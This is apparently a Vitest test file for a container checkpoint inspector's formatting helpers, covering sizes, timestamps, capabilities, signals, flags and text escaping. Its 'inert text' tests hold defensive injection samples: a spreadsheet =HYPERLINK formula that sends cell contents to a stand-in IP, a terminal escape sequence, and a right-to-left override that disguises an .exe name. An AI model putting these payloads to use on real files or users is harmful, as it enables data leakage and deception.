import { readFileSync } from 'node:fs';
import { constants as fsConstants } from 'node:fs';
import { constants as osConstants } from 'node:os';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { capabilityNames, capabilityName, ALL_CAPABILITIES } from '../../../shared/format/capabilities.ts';
import { escapeName } from '../../../shared/format/escape-names.ts';
import { inertBytes, inertCell, inertString, inertText } from '../../../shared/format/inert-text.ts';
import {
  adviceNames,
  mapFlagNames,
  protectionNames,
  vmaStatusNames,
} from '../../../shared/format/mappings.ts';
import { modeText, openFlagNames } from '../../../shared/format/open-flags.ts';
import { parseRfc3339 } from '../../../shared/format/rfc3339.ts';
import { exitText, signalName, signalNames } from '../../../shared/format/signals.ts';
import { formatExactBytes, formatSize } from '../../../shared/format/sizes.ts';
import { netlinkProtocolName, packetProtocolName, ipProtocolName } from '../../../shared/format/sockets.ts';
import { formatDuration, formatRfc3339, formatTime } from '../../../shared/format/times.ts';
import { displayText } from '../../../shared/text.ts';
import { readArchive, tarMembers } from '../container/checkpoint-files.ts';

describe('sizes', () => {
  it.each([
    [0, '0 B'],
    [1023, '1023 B'],
    [1024, '1.0 KiB'],
    [1536, '1.5 KiB'],
    [4194304n, '4.0 MiB'],
    [1048575, '1.0 MiB'],
    [17540096, '16.7 MiB'],
    [2n ** 64n - 1n, '16.0 EiB'],
    [-2048, '-2.0 KiB'],
  ])('%s is %s', (bytes, text) => {
    expect(formatSize(bytes)).toBe(text);
  });

  it('are within a twentieth of their unit of what they stand for', () => {
    const units = ['B', 'KiB', 'MiB', 'GiB', 'TiB', 'PiB', 'EiB'];
    fc.assert(
      fc.property(fc.bigInt({ min: 0n, max: 2n ** 64n }), (bytes) => {
        const [number, unit] = formatSize(bytes).split(' ');
        const one = 1024 ** units.indexOf(unit!);
        expect(Math.abs(Number(number) * one - Number(bytes))).toBeLessThanOrEqual(one * 0.0500001);
        expect(Number(number)).toBeLessThan(1024);
      }),
    );
  });

  it('have an exact form', () => {
    expect(formatExactBytes(17540096)).toBe('17,540,096 bytes');
    expect(formatExactBytes(1n)).toBe('1 byte');
    expect(formatExactBytes(-1234)).toBe('-1,234 bytes');
  });
});

describe('times', () => {
  it('are those of Date, for every millisecond that int64 nanoseconds hold', () => {
    const ms = fc.integer({ min: -9_223_372_036_854, max: 9_223_372_036_854 });
    fc.assert(
      fc.property(ms, (time) => {
        const iso = new Date(time).toISOString();
        expect(formatRfc3339(BigInt(time) * 1_000_000n, { precisionNs: 1_000_000n })).toBe(iso);
        expect(parseRfc3339(iso)).toBe(BigInt(time) * 1_000_000n);
      }),
    );
  });

  it('come back from their text with any offset', () => {
    const time = fc.bigInt({ min: -(2n ** 62n), max: 2n ** 62n });
    fc.assert(
      fc.property(time, fc.integer({ min: -720, max: 840 }), (timeNs, offsetMinutes) => {
        expect(parseRfc3339(formatRfc3339(timeNs, { offsetMinutes }))).toBe(timeNs);
      }),
    );
  });

  it('are never finer than their source', () => {
    const time = 1795502643475346936n;
    const shown = (precisionNs: bigint): string => formatTime(time, { precisionNs });
    expect(shown(1n)).toBe('2026-11-24 06:44:03.475346936Z');
    expect(shown(1000n)).toBe('2026-11-24 06:44:03.475346Z');
    expect(shown(10_000_000n)).toBe('2026-11-24 06:44:03.47Z');
    expect(shown(1_000_000_000n)).toBe('2026-11-24 06:44:03Z');
    expect(shown(60_000_000_000n)).toBe('2026-11-24 06:44Z');
    expect(shown(86_400_000_000_000n)).toBe('2026-11-24 UTC');
    expect(formatTime(time, { precisionNs: 1_000_000_000n, offsetMinutes: -210 })).toBe(
      '2026-11-24 03:14:03-03:30',
    );
  });

  it.each([
    '2026-02-30T00:00:00Z',
    '2026-13-01T00:00:00Z',
    '2026-00-01T00:00:00Z',
    '2025-02-29T00:00:00Z',
    '1900-02-29T00:00:00Z',
    '2026-01-01T24:00:00Z',
    '2026-01-01T00:60:00Z',
    '2026-01-01T00:00:61Z',
    '2026-01-01T00:00:00',
    '2026-01-01T00:00:00+24:00',
    '2026-1-1T00:00:00Z',
    '2300-01-01T00:00:00Z',
    'yesterday',
    '',
  ])('%s is none', (text) => {
    expect(parseRfc3339(text)).toBeNull();
  });

  it('take a leap day and a leap second', () => {
    expect(parseRfc3339('2000-02-29T00:00:00Z')).toBe(951782400000000000n);
    expect(parseRfc3339('2016-12-31T23:59:60Z')).toBe(1483228800000000000n);
  });

  it.each([
    [999n, '999 ns'],
    [3_410_000n, '3.41 ms'],
    [999_999_999n, '999.99 ms'],
    [59_999_000_000n, '59.99 s'],
    [250_000_000_000n, '4 min 10 s'],
    [11_100_000_000_000n, '3 h 5 min'],
    [1_051_200_000_000_000n, '12 d 4 h'],
    [-1500n, '-1.50 µs'],
  ])('%s ns last %s', (ns, text) => {
    expect(formatDuration(ns)).toBe(text);
  });
});

describe('capabilities', () => {
  it('of a real process have the names that its engine asked for', async () => {
    const path = (name: string): URL => new URL(`../../fixtures/checkpoints/${name}`, import.meta.url);
    const members = await tarMembers(readArchive(path('containerd-web-benign.tar.zst')));
    const spec = members.find((member) => member.name === 'spec.dump')!;
    const { process } = JSON.parse(new TextDecoder().decode(spec.bytes)) as {
      process: { capabilities: { effective: string[] } };
    };
    const truth = JSON.parse(readFileSync(path('truth/containerd-web-benign.json'), 'utf8')) as {
      processes: { pid: number; capEff: string }[];
    };
    const mask = BigInt(`0x${truth.processes.find((entry) => entry.pid === 1)!.capEff.replace(/^0x/, '')}`);
    expect(capabilityNames(mask).sort()).toEqual([...process.capabilities.effective].sort());
  });

  it('end with the newest and keep unknown bits', () => {
    expect(capabilityNames(ALL_CAPABILITIES)).toHaveLength(41);
    expect(capabilityName(40)).toBe('CAP_CHECKPOINT_RESTORE');
    expect(capabilityNames((1n << 63n) | 1n)).toEqual(['CAP_CHOWN', 'CAP_63']);
  });
});

describe('signals', () => {
  it.runIf(process.platform === 'linux' && process.arch !== 'mips')(
    'have the names that this system gives them',
    () => {
      const aliases = new Set(['SIGIOT', 'SIGPOLL', 'SIGUNUSED']);
      for (const [name, signal] of Object.entries(osConstants.signals)) {
        if (!aliases.has(name)) expect(signalName(signal)).toBe(name);
      }
    },
  );

  it('of mips have their own numbers, real-time ones a place', () => {
    expect(signalName(23, 'mips')).toBe('SIGSTOP');
    expect(signalName(18, 'mips')).toBe('SIGCHLD');
    expect(signalName(34)).toBe('SIGRTMIN');
    expect(signalName(64)).toBe('SIGRTMIN+30');
    expect(signalName(32)).toBe('signal 32');
    expect(signalName(0)).toBe('signal 0');
    expect(signalNames(0x4002n)).toEqual(['SIGINT', 'SIGTERM']);
  });

  it('end processes', () => {
    expect(exitText(3 << 8)).toBe('exit 3');
    expect(exitText(9)).toBe('killed by SIGKILL');
    expect(exitText(0x8b)).toBe('killed by SIGSEGV (core dumped)');
  });
});

describe('flags', () => {
  it.runIf(process.platform === 'linux' && process.arch === 'x64')(
    'of open have the values that this system has',
    () => {
      for (const name of [
        'O_CREAT',
        'O_EXCL',
        'O_NOCTTY',
        'O_TRUNC',
        'O_APPEND',
        'O_DIRECTORY',
        'O_NOATIME',
        'O_NOFOLLOW',
        'O_SYNC',
        'O_DSYNC',
        'O_DIRECT',
        'O_NONBLOCK',
      ] as const) {
        expect(openFlagNames(fsConstants[name])).toEqual(['O_RDONLY', name]);
      }
    },
  );

  it('of open are read as the dumped machine numbers them', () => {
    expect(openFlagNames(0o2102002)).toEqual(['O_RDWR', 'O_APPEND', 'O_LARGEFILE', 'O_CLOEXEC']);
    expect(openFlagNames(0o40000, 'aarch64')).toEqual(['O_RDONLY', 'O_DIRECTORY']);
    expect(openFlagNames(0o40000, 'x86-64')).toEqual(['O_RDONLY', 'O_DIRECT']);
    expect(openFlagNames(0o400000, 'ppc64')).toEqual(['O_RDONLY', 'O_DIRECT']);
    expect(openFlagNames(0x108, 'mips')).toEqual(['O_RDONLY', 'O_CREAT', 'O_APPEND']);
    expect(openFlagNames(0x40000001)).toEqual(['O_WRONLY', '0x40000000']);
  });

  it('of mappings and VMAs', () => {
    expect(protectionNames(5)).toEqual(['PROT_READ', 'PROT_EXEC']);
    expect(protectionNames(0)).toEqual(['PROT_NONE']);
    expect(vmaStatusNames(0x4041)).toEqual(['REGULAR', 'FILE_PRIVATE', 'MEMFD']);
    expect(mapFlagNames(0x122)).toEqual(['MAP_PRIVATE', 'MAP_ANONYMOUS', 'MAP_GROWSDOWN']);
    expect(mapFlagNames(0x28)).toEqual(['MAP_DROPPABLE', 'MAP_ANONYMOUS']);
    expect(mapFlagNames(((21 << 26) | 0x40022) >>> 0)).toEqual([
      'MAP_PRIVATE',
      'MAP_ANONYMOUS',
      'MAP_HUGETLB',
      'MAP_HUGE_21',
    ]);
    expect(mapFlagNames(0x802, 'mips')).toEqual(['MAP_PRIVATE', 'MAP_ANONYMOUS']);
    expect(adviceNames((1n << 16n) | (1n << 10n))).toEqual(['MADV_DONTFORK', 'MADV_DONTDUMP']);
  });

  it('of a file mode read as ls shows them', () => {
    expect([0o100640, 0o041777, 0o104755, 0o102644, 0o120777, 0o644].map(modeText)).toEqual([
      '-rw-r-----',
      'drwxrwxrwt',
      '-rwsr-xr-x',
      '-rw-r-Sr--',
      'lrwxrwxrwx',
      '-rw-r--r--',
    ]);
  });

  it('of socket protocols', () => {
    expect(packetProtocolName(0x0300)).toBe('ALL');
    expect(netlinkProtocolName(15)).toBe('KOBJECT_UEVENT');
    expect(netlinkProtocolName(99)).toBe('99');
    expect(ipProtocolName(132)).toBe('SCTP');
  });
});

describe('inert text', () => {
  it('marks control and direction characters as escapes', () => {
    expect(inertText('a\u001b[2Jb\u202egpj.exe')).toEqual([
      { text: 'a', escaped: false },
      { text: '\\x1b', escaped: true },
      { text: '[2Jb', escaped: false },
      { text: '\\u{202e}', escaped: true },
      { text: 'gpj.exe', escaped: false },
    ]);
    expect(inertString('line\nbreak\ttab\u0085\u{e0041}é\u{1f600}')).toBe(
      'line\\nbreak\\ttab\\x85\\u{e0041}é\u{1f600}',
    );
  });

  it('leaves nothing that Unicode counts as control, format, separator or surrogate', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (text) => {
        expect(inertString(text)).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
      }),
      { numRuns: 2000 },
    );
    for (let code = 0; code <= 0x10ffff; code++) {
      const char = String.fromCodePoint(code);
      if (/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u.test(char) && inertString(char) === char) {
        throw new Error(`U+${code.toString(16)} is left as it is`);
      }
    }
  });

  it('leaves visible text as it is', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('a', '/', '\\', 'é', '日', '<', '&', '\u{1f600}', ' ') }),
        (text) => {
          expect(inertText(text)).toEqual(text === '' ? [] : [{ text, escaped: false }]);
        },
      ),
    );
  });

  it('of bytes is the display form with the bytes that are no UTF-8 marked', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 40 }), (bytes) => {
        const segments = inertBytes(bytes);
        expect(segments.map((segment) => segment.text).join('')).toBe(inertString(displayText(bytes)));
      }),
      { numRuns: 1000 },
    );
    expect(inertBytes(Uint8Array.from([0x61, 0xff, 0x62]))).toEqual([
      { text: 'a', escaped: false },
      { text: '\\xff', escaped: true },
      { text: 'b', escaped: false },
    ]);
  });

  it('is no formula in a spreadsheet', () => {
    expect(inertCell('=HYPERLINK("http://203.0.113.66/"&A1)')).toBe(
      '\'=HYPERLINK("http://203.0.113.66/"&A1)',
    );
    expect(inertCell('a=b')).toBe('a=b');
    for (const text of [
      ' =1+1',
      '\u3000=1',
      '\n@SUM(1)',
      '\uff1d1+1',
      ' \uff0b1',
      '\uff0d1',
      '\uff20x',
      '\ufe66x',
    ])
      expect(inertCell(text)).toBe(`'${text}`);
    for (const text of ['', ' ', ' a=b', '\uff1ax', '(-1)']) expect(inertCell(text)).toBe(text);
  });
});

describe('names of escapes', () => {
  it.each([
    ['\u202e', 'right-to-left override'],
    ['\u0000', 'NUL'],
    ['\n', 'line feed'],
    ['\u0003', 'control character'],
    ['\u{e0041}', 'tag or variation selector'],
    ['\u2063', 'character that can not be seen'],
  ])('%j is told as %s', (character, name) => {
    expect(inertText(character).map(({ text }) => escapeName(text))).toEqual([name]);
  });

  it('every character that is escaped has a name', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        for (const segment of inertText(text))
          if (segment.escaped) expect(escapeName(segment.text)).not.toBe('escape');
      }),
    );
  });
});
